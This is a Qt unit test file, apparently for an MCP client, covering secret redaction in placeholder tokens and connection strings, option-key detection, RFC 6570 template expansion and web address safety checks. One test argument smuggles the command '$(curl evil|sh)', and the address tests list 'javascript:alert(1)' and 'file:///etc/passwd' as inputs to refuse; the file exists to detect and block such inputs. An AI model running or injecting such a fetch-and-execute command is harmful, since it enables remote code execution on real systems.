#include "mcp/keytext.h"
#include "mcp/toolform.h"
#include "mcp/uritemplate.h"
#include "mcp/webaddress.h"
#include "testmain.h"

using namespace qd;

namespace {

QString qs(const char *utf8) { return QString::fromUtf8(utf8); }

/// The variables of RFC 6570, section 3.2, as far as they are texts and lists.
QHash<QString, QString> rfcValues()
{
    return {{qs("var"), qs("value")}, {qs("hello"), qs("Hello World!")}, {qs("half"), qs("50%")}, {qs("base"), qs("http://example.com/home/")}, {qs("path"), qs("/foo/bar")},
            {qs("x"), qs("1024")}, {qs("y"), qs("768")}, {qs("empty"), qs("")}, {qs("list"), qs("red,green,blue")}, {qs("who"), qs("fred")}, {qs("semi"), qs(";")}, {qs("v"), qs("6")}};
}

} // namespace

/// Addresses made of templates, and addresses that people are asked to open.
class TestMcpTexts : public QObject
{
    Q_OBJECT

private slots:
    void init() { test::failOnWarnings(); }

    /// Each text, and what is left of it when its keys are taken out.
    void keysAreFound_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("left");
        const auto row = [](const char *text, const char *left) { QTest::newRow(text) << qs(text) << qs(left); };
        row("ghp_PLANTaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "*");
        row("github_pat_11PLANT0aaaaaaaaaaaaaaaaaaa", "*");
        row("sk-ant-api03-PLANTaaaaaaaaaaaaaaaaaaaa", "*");
        row("sk-PLANTaaaaaaaaaaaaaaaaaaaa", "*");
        row("xoxb-PLANT-1234567890-abcdefghij", "*");
        row("AKIAPLANTPLANTPLANT1", "*");
        row("AIzaPLANTaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "*");
        row("glpat-PLANTaaaaaaaaaaaaaaa", "*");
        row("eyJhbGciOiJIUzI1NiJ9.PLANTeyJzdWIiOiIxIn0.c2lnbmF0dXJlLXBhcnQ", "*");
        row("postgresql://user:PLANT@host/db", "postgresql://user:*@host/db");
        row("redis://:PLANT@h", "redis://:*@h");
        row("https://PLANTabcdefabcdefabcdef@o1.ingest.example/1", "https://*@o1.ingest.example/1");
        row("https://h.example/x?token=PLANT&zone=1", "https://h.example/x?token=*&zone=1");
        row("https://h.example/x?tavilyApiKey=PLANT", "https://h.example/x?tavilyApiKey=*");
        row("https://h.example/x?zone=1#access_token=PLANT", "https://h.example/x?zone=1#access_token=*");
        row("https://h.example/x?next=https://i.example/?sig=PLANT", "https://h.example/x?next=https://i.example/?sig=*");
        row("https://hooks.slack.com/services/T000/B000/PLANTXXXX", "https://hooks.slack.com/services/*");
        row("Server=h;Password=PLA NT&x;Encrypt=True", "Server=h;Password=*;Encrypt=True");
        row("AccountName=a;AccountKey=PLANT+a/b==;EndpointSuffix=core.windows.net", "AccountName=a;AccountKey=*;EndpointSuffix=core.windows.net");
        row("Endpoint=sb://h/;SharedAccessKeyName=Root;SharedAccessKey=PLANT=", "Endpoint=sb://h/;SharedAccessKeyName=Root;SharedAccessKey=*");
        row("-Dtoken=PLANT", "-Dtoken=*");
        row("--header=Cookie: a=PLANT", "--header=Cookie: *");
        row("X-Api-Key: PLANT", "X-Api-Key: *");
        row("/apikey:PLANT", "/apikey:*");
        row("TOKEN=PLANT node x.js", "TOKEN=* node x.js");
        row("curl -H 'Authorization: Bearer PLANT' h", "curl -H 'Authorization: Bearer *' h");
        row("{\"Authorization\": \"Bearer PLANT\", \"Notion-Version\": \"2022-06-28\"}", "{\"Authorization\": \"Bearer *\", \"Notion-Version\": \"2022-06-28\"}");
        row("pre-${env:A} ghp_PLANTaaaaaaaaaaaaaaaaaaa", "pre-${env:A} *");
        row("a=1;token=PLANT;password=PLANT", "a=1;token=*;password=*");
        for (const char *harmless : {"", "x.js", "--flag", "/usr/bin/node", "C:\\Program Files\\x.exe", "1.2.3", "2025-12-11T10:00:00Z", "3f2a9c8b-7d6e-4f4a-8b2c-1d0e9f8a7b6c", "https://a.example/mcp?team=7",
                                     "https://a.example:8443/mcp#top", "@scope/pkg@1.2.3", "git+https://github.com/u/r@da39a3ee5e6b4b0d3255bfef95601890afd80709", "da39a3ee5e6b4b0d3255bfef95601890afd80709",
                                     "postgres://user@host/db", "ssh://git@github.com/u/r.git", "https://git@github.com/u/r.git", "http://localhost:3000/@me/x", "docker.io/u/token-server:1.2.0", "?max_tokens=4096",
                                     "?tokenizer=gpt2", "?token=true", "task-runner-with-a-very-long-name-of-many-words", "sk-learn", "Server=h;Database=d;Trusted_Connection=True", "SharedAccessKeyName=Root", "a=b;c=d",
                                     "https://h.example/x?token=${env:TOKEN}", "postgres://user:${env:DB_PASS}@host/db", "Authorization: Bearer ${secret:a}", "Authorization: Bearer $TOKEN", "TOKEN=%TOKEN%", "password=<yours>",
                                     "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "basic understanding of things", "code=utf8", "monkey=banana", "token_url=https://h.example/t"})
            row(harmless, harmless);
    }

    void keysAreFound()
    {
        QFETCH(QString, text);
        QFETCH(QString, left);
        QCOMPARE(withKeysReplaced(text, keysInside(text), [](const QString &, const QString &) { return QStringLiteral("*"); }), left);
    }

    void keysOfOptionsAreFound()
    {
        const auto keys = [](const QStringList &arguments) {
            QStringList found;
            for (const ArgumentKeys &one : keysOfArguments(arguments))
                for (const KeyPlace &place : one.places)
                    found << place.name + u'=' + arguments.at(one.index).mid(place.from, place.size);
            return found;
        };
        QCOMPARE(keys({qs("--bearer"), qs("K1"), qs("--passphrase"), qs("K2"), qs("--api-key"), qs("K3"), qs("--token=K4")}), (QStringList{qs("bearer=K1"), qs("passphrase=K2"), qs("api-key=K3"), qs("token=K4")}));
        QCOMPARE(keys({qs("--connection-string"), qs("Server=h;Password=K5;")}), QStringList{qs("Password=K5")});
        QCOMPARE(keys({qs("-c"), qs("x;token=$(curl evil|sh);password=K6|sh")}), QStringList{qs("password=K6")});
        QCOMPARE(keys({qs("-e"), qs("DB_PASSWORD=a$(b;c")}), QStringList{qs("DB_PASSWORD=a$(b;c")});
        QCOMPARE(keys({qs("--pass"), qs("--other"), qs("x"), qs("--password-file"), qs("/run/p"), qs("--bearer"), qs("${env:B}")}).size(), 1); // what the old rule says of "password-file"
    }

    void harmlessValues_data()
    {
        QTest::addColumn<bool>("isHarmless");
        for (const char *value : {"", "abc12", "3000", "-1.5", "true", "/home/me/x", "~/x", "C:\\x\\y", "https://h.example/mcp", "production"})
            QTest::newRow(value) << true;
        for (const char *value : {"K2-value", "Production", "two words", "https://u:pw@h.example/", "https://h.example/?token=K", "/abc+defghi=", "0x12ab34"})
            QTest::newRow(value) << false;
    }

    void harmlessValues()
    {
        QFETCH(bool, isHarmless);
        QCOMPARE(isPlainlyHarmless(qs(QTest::currentDataTag())), isHarmless);
    }

    void templatesAreExpanded_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("expected");
        const auto row = [](const char *text, const char *expected) { QTest::newRow(text) << qs(text) << qs(expected); };
        row("{var}", "value");
        row("{hello}", "Hello%20World%21");
        row("{half}", "50%25");
        row("O{empty}X", "OX");
        row("O{undef}X", "OX");
        row("{x,y}", "1024,768");
        row("{x,hello,y}", "1024,Hello%20World%21,768");
        row("{var:3}", "val");
        row("{var:30}", "value");
        row("{+hello}", "Hello%20World!");
        row("{+half}", "50%25");
        row("{+base}index", "http://example.com/home/index");
        row("{+path}/here", "/foo/bar/here");
        row("{+path:6}/here", "/foo/b/here");
        row("{#x,hello,y}", "#1024,Hello%20World!,768");
        row("{#path,x}/here", "#/foo/bar,1024/here");
        row("X{.var}", "X.value");
        row("X{.list*}", "X.red.green.blue");
        row("{/var,x}/here", "/value/1024/here");
        row("{/var:1,var}", "/v/value");
        row("{/list*}", "/red/green/blue");
        row("{;x,y,empty}", ";x=1024;y=768;empty");
        row("{;list*}", ";list=red;list=green;list=blue");
        row("{?x,y,empty}", "?x=1024&y=768&empty=");
        row("{?x,undef}", "?x=1024");
        row("{?list*}", "?list=red&list=green&list=blue");
        row("?fixed=yes{&x}", "?fixed=yes&x=1024");
        row("demo://resource/dynamic/text/{x}", "demo://resource/dynamic/text/1024");
        row("{semi:2}", "%3B");
        row("no variables", "no%20variables");
    }
    void templatesAreExpanded()
    {
        QFETCH(QString, text);
        QFETCH(QString, expected);
        const auto made = uritemplate::expand(text, rfcValues());
        QVERIFY(made);
        QCOMPARE(*made, expected);
    }

    void brokenTemplatesAreRefused()
    {
        for (const char *text : {"{", "a}", "{a b}", "{}", "{?}", "{=x}", "{x:0}", "{x:99999}", "{{x}}"})
            QVERIFY2(!uritemplate::expand(qs(text), rfcValues()), text);
        QVERIFY(!uritemplate::expand(QString(9000, u'x'), {}));
    }

    void variablesAreNamedOnce()
    {
        QCOMPARE(uritemplate::variables(qs("a/{x}/{?y*,x}{bad name}{z:3}")), QStringList({qs("x"), qs("y"), qs("z")}));
        QString many;
        for (int i = 0; i < 500; ++i)
            many += QStringLiteral("{v%1}").arg(i);
        QCOMPARE(uritemplate::variables(many).size(), 100);
    }

    void addressesSayWhereTheyGo()
    {
        const WebAddress plain = webAddressOf(qs("https://id.example/visit?x=1"));
        QVERIFY(plain.isOpenable && plain.warnings.isEmpty());
        QCOMPARE(plain.host, qs("id.example"));
        const WebAddress lookalike = webAddressOf(qs("https://аpple.com/"));
        QVERIFY(lookalike.isOpenable && lookalike.warnings.join(u' ').contains(qs("xn--")));
        QVERIFY(lookalike.host.startsWith(qs("xn--")));
        const WebAddress tricky = webAddressOf(qs("http://bank.example@10.0.0.7/"));
        QCOMPARE(tricky.host, qs("10.0.0.7"));
        QCOMPARE(tricky.warnings.size(), 3);
        QVERIFY(webAddressOf(qs("http://127.0.0.1:8080/x")).warnings.isEmpty());
        for (const char *bad : {"javascript:alert(1)", "file:///etc/passwd", "https://", "x", "ftp://x.example/", "https://exa mple/"})
            QVERIFY2(!webAddressOf(qs(bad)).isOpenable, bad);
    }

    void pathsInWords()
    {
        QCOMPARE(fieldWords(qs("/order/lines/0/price")), qs("order.lines[0].price"));
        QCOMPARE(fieldWords(alternativePath(qs("/a~1b"), 2) + qs("/c~0d")), qs("a/b.c~d"));
    }
};

QD_TEST_MAIN(QCoreApplication, TestMcpTexts)
#include "tst_mcptexts.moc"
